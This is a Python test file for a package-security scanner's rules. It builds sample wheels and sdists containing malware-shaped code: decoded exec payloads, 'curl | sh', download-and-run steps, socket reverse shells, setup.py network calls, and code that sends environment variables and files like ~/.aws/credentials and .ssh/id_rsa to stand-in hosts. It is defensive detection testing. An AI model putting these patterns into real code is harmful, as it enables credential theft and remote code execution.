"""Cases of the rules on code: harmless code in the shapes that they report, and in similar ones."""

from __future__ import annotations

from collections.abc import Callable

from fixtures.builders import Built, Sdist, Wheel, sample_sources, sdist_sources
from fixtures.cases import bad, good

PATH = "sample/run.py"


def in_wheel(source: str, path: str = PATH) -> Built:
    return Wheel(files={**sample_sources(), path: source.encode()}).build()


def in_sdist(source: str, path: str = PATH, **files: str) -> Built:
    given = {path: source.encode(), **{name: text.encode() for name, text in files.items()}}
    return Sdist(files={**sdist_sources(), **sample_sources(), **given}).build()


def _bad(code: str, name: str, source: str, line: int, says: str = "", severity: str | None = None) -> None:
    bad(code, at=f"{PATH}:{line}", says=says, severity=severity)(_named(name, source))


def _good(code: str, name: str, source: str) -> None:
    good(code)(_named(name, source))


def _named(name: str, source: str) -> Callable[[], Built]:
    def build() -> Built:
        return in_wheel(source)

    build.__name__ = name
    return build


_DECODED = "import base64, bz2, codecs, marshal, zlib\n"
_bad("BH101", "base64_at_import", _DECODED + "exec(base64.b64decode('eCA9IDE='))\n", 2, "when it is imported")
_bad("BH101", "eval_of_a_decompressor", _DECODED + "eval(zlib.decompress(b''))\n", 2, "zlib.decompress")
_bad("BH101", "nested_decoders", _DECODED + "exec(bz2.decompress(base64.b85decode('')).decode())\n", 2)
_bad("BH101", "hexadecimal", "exec(bytes.fromhex('783d31'))\n", 1, "bytes.fromhex")
_bad("BH101", "rot13", _DECODED + "exec(codecs.decode('k=1', 'rot13'))\n", 2, "codecs.decode")
_bad("BH101", "code_object", _DECODED + "exec(marshal.loads(b''))\n", 2, "marshal.loads")
_bad("BH101", "numbers_of_characters", "exec(''.join(map(chr, [120, 61, 49])))\n", 1, "chr")
_bad("BH101", "characters_in_a_loop", "exec(''.join(chr(each) for each in [120, 61, 49]))\n", 1)
_bad("BH101", "decrypted", "def f(box):\n    exec(box.decrypt(b''))\n", 2, "decrypt")
_bad(
    "BH101",
    "three_assignments",
    "def f():\n    import base64 as b\n    x = b.b64decode('')\n    y = x.decode()\n    z = y\n    exec(z)\n",
    6,
)
_bad("BH101", "compiled_first", _DECODED + "exec(compile(base64.b64decode(''), 'x', 'exec'))\n", 2)
_bad("BH101", "another_name", _DECODED + "run = exec\nrun(zlib.decompress(b''))\n", 3, "exec gets")
_bad("BH101", "name_in_two_parts", _DECODED + "getattr(__builtins__, 'ex' + 'ec')(zlib.decompress(b''))\n", 2)
_bad("BH101", "through_builtins", _DECODED + "import builtins\nbuiltins.exec(zlib.decompress(b''))\n", 3)
_bad("BH101", "imported_inline", "exec(__import__('base64').b64decode(''))\n", 1)
_bad("BH101", "lambda_with_a_name", _DECODED + "d = lambda x: zlib.decompress(x)\nexec(d(b''))\n", 3)
_bad(
    "BH101",
    "from_the_network",
    "from urllib.request import urlopen\ndef f():\n    with urlopen('https://files.example/x') as r:\n"
    "        exec(r.read())\n",
    4,
    "reads from the network",
)
_bad(
    "BH101",
    "python_with_a_decoded_text",
    "import base64, subprocess, sys\nsubprocess.run([sys.executable, '-c', base64.b64decode('')])\n",
    2,
    "base64.b64decode",
)
_bad(
    "BH101",
    "python_that_decodes",
    "import subprocess, sys\ncode = \"import base64; exec(base64.b64decode('eA=='))\"\n"
    "subprocess.Popen([sys.executable, '-c', code])\n",
    3,
    "Python that runs decoded text",
)
_bad(
    "BH101",
    "encoded_command",
    "import subprocess\nsubprocess.run(['powershell', '-NoProfile', '-EncodedCommand', "
    "'QQBCAEMARABFAEYARwA='])\n",
    2,
    "PowerShell",
)

_good(
    "BH101",
    "method_called_exec",
    _DECODED + "class C:\n    def exec(self, x): ...\nC().exec(zlib.decompress(b''))\n",
)
_good("BH101", "function_called_eval", _DECODED + "def eval(x): ...\neval(zlib.decompress(b''))\n")
_good("BH101", "parameter_called_exec", _DECODED + "def f(exec):\n    exec(zlib.decompress(b''))\n")
_good(
    "BH101",
    "literal_of_a_packed_table",
    _DECODED + "import ast\nast.literal_eval(zlib.decompress(b'').decode())\n",
)
_good(
    "BH101",
    "function_of_unpickled_code",
    _DECODED + "import types\nf = types.FunctionType(marshal.loads(b''), {})\n",
)
_good("BH101", "text_that_mentions_it", "TEXT = 'exec(base64.b64decode(x))'\n")
_good(
    "BH101",
    "cache_of_compiled_code",
    _DECODED + "def load(file):\n    return marshal.loads(file.read())\n\n\ndef run(code):\n    exec(code)\n"
    "def both(file):\n    run(load(file))\n",
)
_good(
    "BH101", "template", "def render(source):\n    code = compile(source, 't', 'exec')\n    exec(code, {})\n"
)
_good("BH101", "record_factory", "def make(name):\n    text = 'class ' + name + ': ...'\n    exec(text)\n")
_good("BH101", "prompt", "def loop():\n    while True:\n        print(eval(input('> ')))\n")
_good(
    "BH101",
    "decoded_input_of_a_process",
    "import base64, subprocess\nsubprocess.run(['cat'], input=base64.b64decode(''))\n",
)
_good(
    "BH101",
    "command_from_another_process",
    "import base64, pickle, subprocess, sys\ndef f():\n    text = sys.stdin.readline().strip()\n"
    "    command, options = pickle.loads(base64.b64decode(text))\n    subprocess.Popen(command, **options)\n",
)
_good(
    "BH101",
    "name_of_a_process_in_base64",
    "import base64, subprocess\nsubprocess.run(['cat', base64.b32encode(b'x').decode('ascii')])\n",
)
_good(
    "BH101",
    "self_extracting_program_that_is_written",
    "def write(path):\n    with open(path, 'w') as file:\n        "
    "file.write('exec(zlib.decompress(b64decode(DATA)))')\n",
)
_good(
    "BH101",
    "short_encoded_command",
    "import subprocess\nsubprocess.run(['powershell', '-EncodedCommand', 'QQA='])\n",
)
_good("BH101", "vendored_six", "def exec_(code, g=None):\n    exec('exec code in g', g)\n")


@bad("BH101", at="sample/tests/test_run.py:2", severity="warning")
def test_in_a_wheel() -> Built:
    return in_wheel(_DECODED + "exec(zlib.decompress(b''))\n", "sample/tests/test_run.py")


@bad("BH101", at="sample-1.0/tests/test_run.py:2", severity="info")
def test_in_an_sdist() -> Built:
    return in_sdist(_DECODED + "exec(zlib.decompress(b''))\n", "tests/test_run.py")


@bad("BH101", at="sample-1.0/tools/bootstrap.py:2", severity="warning", says="reads from the network")
def script_in_an_sdist() -> Built:
    source = "from urllib.request import urlopen\nexec(urlopen('https://files.example/x').read())\n"
    return in_sdist(source, "tools/bootstrap.py")


@bad("BH101", at="sample-1.0/sample/run.py:2")
def module_in_an_sdist() -> Built:
    return in_sdist(_DECODED + "exec(zlib.decompress(b''))\n")


_GET = "import os, subprocess, threading, atexit\nimport urllib.request as u\nURL = 'https://files.example/tool'\n"
_bad(
    "BH107",
    "retrieved_and_started",
    _GET + "def f():\n    u.urlretrieve(URL, 'tool')\n    subprocess.Popen(['./tool'])\n",
    6,
    "urllib.request.urlretrieve",
)
_bad(
    "BH107",
    "read_written_and_executed",
    _GET + "def f():\n    data = u.urlopen(URL).read()\n    with open('tool', 'wb') as file:\n"
    "        file.write(data)\n    os.execv('tool', ['tool'])\n",
    8,
)
_bad(
    "BH107",
    "file_in_memory",
    _GET + "def f():\n    fd = os.memfd_create('x')\n    os.write(fd, u.urlopen(URL).read())\n"
    "    os.execve(fd, ['x'], {})\n",
    7,
)
_bad(
    "BH107",
    "function_called_at_import",
    _GET + "def f():\n    u.urlretrieve(URL, 'tool')\n    subprocess.Popen(['./tool'])\n"
    "def g():\n    f()\ng()\n",
    6,
    "when it is imported",
    "error",
)
for _how, _call in {
    "thread": "threading.Thread(target=f).start()\n",
    "timer": "threading.Timer(5, f).start()\n",
    "exit": "atexit.register(f)\n",
}.items():
    _bad(
        "BH107",
        f"handed_to_a_{_how}",
        _GET + "def f():\n    u.urlretrieve(URL, 'tool')\n    subprocess.run(['./tool'])\n" + _call,
        6,
        "when it is imported",
        "error",
    )
_bad(
    "BH107",
    "at_exit_by_a_decorator",
    _GET + "@atexit.register\ndef f():\n    u.urlretrieve(URL, 'tool')\n    subprocess.run(['./tool'])\n",
    7,
    "when it is imported",
    "error",
)
_bad(
    "BH107",
    "script_for_a_shell",
    "import os\ndef f():\n    os.system('curl -fsSL https://files.example/get.sh | sh')\n",
    3,
    "in a shell",
    "error",
)
_good(
    "BH107",
    "download_without_a_process",
    _GET + "def f():\n    u.urlretrieve(URL, 'tool')\n\n\ndef g():\n    subprocess.run(['make'])\n",
)
_good(
    "BH107",
    "request_without_a_file",
    _GET + "def f():\n    with open('log', 'w') as file:\n        file.write(str(u.urlopen(URL).status))\n"
    "    subprocess.run(['make'])\n",
)
_good(
    "BH107", "text_about_a_script", "HELP = 'run curl -fsSL https://files.example/get.sh | sh'\nprint(HELP)\n"
)
_good("BH107", "curl_into_a_file", "import os\nos.system('curl -o out https://files.example/data.json')\n")


@bad("BH107", at="sample/node-gyp/update.py:6", severity="warning")
def script_among_the_data_of_a_wheel() -> Built:
    source = _GET + "u.urlretrieve(URL, 'tool')\nif 1:\n    subprocess.run(['./tool'])\n"
    return in_wheel(source, "sample/node-gyp/update.py")


_SOCKET = "import os, pty, socket, subprocess\n"
_bad(
    "BH108",
    "duplicated_descriptors",
    _SOCKET + "def f():\n    s = socket.socket()\n    s.connect(('host.invalid', 9))\n"
    "    for n in (0, 1, 2):\n        os.dup2(s.fileno(), n)\n    subprocess.call(['/bin/sh', '-i'])\n",
    7,
)
_bad(
    "BH108",
    "descriptor_as_input",
    _SOCKET + "def f():\n    s = socket.create_connection(('host.invalid', 9))\n    fd = s.fileno()\n"
    "    subprocess.Popen(['sh'], stdin=fd, stdout=fd)\n",
    5,
)
_bad(
    "BH108",
    "terminal_of_a_socket",
    _SOCKET + "s = socket.socket()\n[os.dup2(s.fileno(), n) for n in (0, 1, 2)]\npty.spawn('sh')\n",
    4,
    "when it is imported",
)
_good(
    "BH108",
    "daemon",
    _SOCKET + "def f(log):\n    s = socket.socket()\n    s.listen()\n    with open(log, 'w') as file:\n"
    "        os.dup2(file.fileno(), 1)\n        subprocess.Popen(['worker'], stdout=file.fileno())\n",
)
_good(
    "BH108",
    "terminal_server",
    _SOCKET + "def f():\n    s = socket.socket()\n    pid, fd = pty.fork()\n    s.sendall(os.read(fd, 100))\n"
    "    subprocess.run(['stty'], stdin=fd)\n",
)
_good(
    "BH108",
    "passed_socket",
    _SOCKET + "def f():\n    s = socket.socket()\n    subprocess.Popen(['worker', str(s.fileno())], "
    "pass_fds=[s.fileno()])\n",
)

_SEND = "import json, os, subprocess\nimport urllib.request as u\nURL = 'https://collect.example/'\n"
_bad(
    "BH105",
    "environment_in_json",
    _SEND + "def f():\n    u.urlopen(URL, json.dumps(dict(os.environ)).encode())\n",
    5,
)
_bad("BH105", "environment_in_a_text", _SEND + "def f():\n    u.urlopen(f'{URL}?{os.environ}')\n", 5)
_bad(
    "BH105",
    "environment_at_import",
    _SEND + "data = [f'{k}={v}' for k, v in os.environ.items()]\nu.urlopen(URL, '&'.join(data).encode())\n",
    4,
    "when it is imported",
    "error",
)
_bad(
    "BH105",
    "two_credential_files",
    _SEND + "def f():\n    for name in ['.aws/credentials', '.pypirc']:\n"
    "        u.urlopen(URL, open(os.path.expanduser('~/' + name), 'rb').read())\n",
    6,
    ".aws/credentials, .pypirc",
)
_bad(
    "BH105",
    "places_in_a_constant",
    _SEND + "PLACES = ['.ssh/id_rsa', '.git-credentials']\ndef f():\n    for name in PLACES:\n"
    "        u.urlopen(URL, open(name, 'rb').read())\n",
    7,
)
_good(
    "BH105",
    "environment_of_a_child",
    _SEND + "def f():\n    u.urlopen(URL)\n    subprocess.run(['make'], env={**os.environ, 'A': 'b'})\n",
)
_good("BH105", "one_variable", _SEND + "def f():\n    u.urlopen(os.environ.get('URL', URL))\n")
_good(
    "BH105",
    "two_functions",
    _SEND + "def f():\n    return dict(os.environ)\n\n\ndef g(data):\n    u.urlopen(URL, data)\n",
)
_good(
    "BH105",
    "own_credential_file",
    _SEND + "def f():\n    u.urlopen(URL, open(os.path.expanduser('~/.aws/credentials'), 'rb').read())\n",
)
_good(
    "BH105",
    "places_that_are_only_read",
    _SEND + "def f():\n    for name in ['.ssh/config', '.netrc']:\n        print(open(name).read())\n"
    "    u.urlopen(URL)\n",
)

# From parts, because this file is audited text too.
_TUNNEL = ".".join(("a1b2c3d4", "ngrok", "io"))
_NAMED_TUNNEL = ".".join(("some-four-plain-words", "trycloudflare", "com"))
_POOL = ":".join(("stratum+tcp", "//pool.example", "3333"))

_bad("BH109", "tunnel", f"URL = 'https://{_TUNNEL}/x'\n", 1, _TUNNEL)
_bad("BH109", "named_tunnel", f"URL = 'https://{_NAMED_TUNNEL}'\n", 1)
_bad("BH109", "mining_pool", f"POOL = '{_POOL}'\n", 1, "pool.example")
_good("BH109", "hidden_service", f"URL = 'http://{'abcd234567' * 5}abcdef.onion/'\n")
_good("BH109", "docstring", f'"""Send to https://{_TUNNEL}/x."""\n')
_good("BH109", "address_of_the_service", "URLS = ['https://ngrok.com/docs', 'https://webhook.site/']\n")
_good("BH109", "template_of_an_address", "URL = 'https://api.telegram.org/bot{token}/send'\n")


_NETWORK = "import urllib.request\n"
_SETUP = "from setuptools import setup\n"


@bad("BH104", at="sample-1.0/setup.py:2", says="urllib.request.urlopen")
def download_in_setup() -> Built:
    return in_sdist(
        _NETWORK + "urllib.request.urlopen('https://files.example/x')\n" + _SETUP + "setup()\n", "setup.py"
    )


@bad("BH104", at="sample-1.0/setup.py:2", says="urllib.request.urlopen")
def download_in_setup_as_a_program() -> Built:
    call = "urllib.request.urlopen('https://files.example/x')"
    return in_sdist(_NETWORK + f"if __name__ == '__main__': {call}\n", "setup.py")


@bad("BH104", at="sample-1.0/setup.py:6")
def download_in_a_command() -> Built:
    source = (
        _SETUP + _NETWORK + "class Install:\n    def run(self): self.get()\n    def get(self):\n"
        "        urllib.request.urlopen('https://files.example/x')\n"
        "setup(cmdclass={'install': Install})\n"
    )
    return in_sdist(source, "setup.py")


@bad("BH104", at="sample-1.0/setup.py:2", says="os.system")
def curl_in_setup() -> Built:
    return in_sdist("import os\nos.system('curl -o x https://files.example/x')\n", "setup.py")


@bad("BH104", at="sample-1.0/setup.py:3", severity="error", also=("BH107",))
def program_downloaded_in_setup() -> Built:
    source = "import subprocess\nimport urllib.request as u\nu.urlretrieve('https://files.example/x', 'x')\n"
    return in_sdist(source + "subprocess.run(['./x'])\n", "setup.py")


@good("BH104")
def ordinary_setup() -> Built:
    source = (
        "import os, subprocess, re\n" + _SETUP + "subprocess.run(['pkg-config', '--libs', 'x'])\n"
        "subprocess.run(['git', 'describe'])\nns = {}\nexec(open('sample/__init__.py').read(), ns)\n"
        "if os.environ.get('X'):\n    subprocess.check_call(['npm', 'run', 'build'])\nsetup()\n"
    )
    return in_sdist(source, "setup.py")


@good("BH104")
def function_that_the_build_does_not_call() -> Built:
    return in_sdist(_NETWORK + "def fetch(): urllib.request.urlopen('https://files.example/x')\n", "setup.py")


@good("BH104")
def setup_of_an_example() -> Built:
    return in_sdist(_NETWORK + "urllib.request.urlopen('https://files.example/x')\n", "examples/setup.py")


_DOWNLOAD = "        urllib.request.urlopen('https://files.example/x')\n"


@bad("BH104", at="sample-1.0/backend/own.py:2")
def backend_in_the_sdist() -> Built:
    project = '[build-system]\nrequires = []\nbuild-backend = "own"\nbackend-path = ["backend"]\n'
    source = _NETWORK + "urllib.request.urlopen('https://files.example/x')\ndef build_wheel(*args): ...\n"
    return in_sdist(source, "backend/own.py", **{"pyproject.toml": project})


@bad("BH104", at="sample-1.0/tools/hook.py:5", also=("SD104",))
def hook_of_hatch() -> Built:
    project = (
        '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'
        '[tool.hatch.build.targets.wheel.hooks.custom]\npath = "tools/hook.py"\n'
    )
    source = (
        _NETWORK + "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n"
        "class Hook(BuildHookInterface):\n    def initialize(self, version, data):\n" + _DOWNLOAD
    )
    return in_sdist(source, "tools/hook.py", **{"pyproject.toml": project})


@good("BH104")
def backend_that_is_only_packed() -> Built:
    source = _NETWORK + "urllib.request.urlopen('https://files.example/x')\ndef build_wheel(*args): ...\n"
    return in_sdist(source, "backend/own.py")
